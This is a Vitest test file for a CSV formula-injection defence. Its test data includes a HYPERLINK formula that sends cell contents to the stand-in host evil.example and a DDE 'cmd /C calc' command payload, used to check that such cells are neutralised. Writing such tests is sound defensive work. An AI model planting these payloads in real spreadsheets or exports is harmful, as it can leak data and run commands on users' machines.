import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseCsvCell } from './csv-cell';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"Andes")';

describe('neutraliseCsvCell', () => {
  it.each([
    [HYPERLINK, `'${HYPERLINK}`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\n=1+1', `'\n=1+1`],
  ])('puts a quote before %j, which a spreadsheet would read as a formula', (text, expected) => {
    expect(neutraliseCsvCell(text)).toBe(expected);
  });

  it.each(['Andes', 'Tienda = Andes', 'ana@andes.example', '', '#1', "'=already", ' =1+1'])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseCsvCell(text)).toBe(text);
    },
  );

  it.each(['-12', '+3.5', '-1,250.75', '-4%', '-0.5'])('keeps the number %j a number', (text) => {
    expect(neutraliseCsvCell(text)).toBe(text);
  });

  it('leaves expressions that only look numeric neutralised', () => {
    expect(neutraliseCsvCell('-1+1')).toBe("'-1+1");
    expect(neutraliseCsvCell('-1e5')).toBe("'-1e5");
  });
});

describe('csvCell', () => {
  it('neutralises, then quotes a cell holding a separator or a quote', () => {
    expect(csvCell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A3,""Andes"")"`);
    expect(csvCell('Peñalolén; Ñuñoa')).toBe('"Peñalolén; Ñuñoa"');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain')).toBe('plain');
  });
});
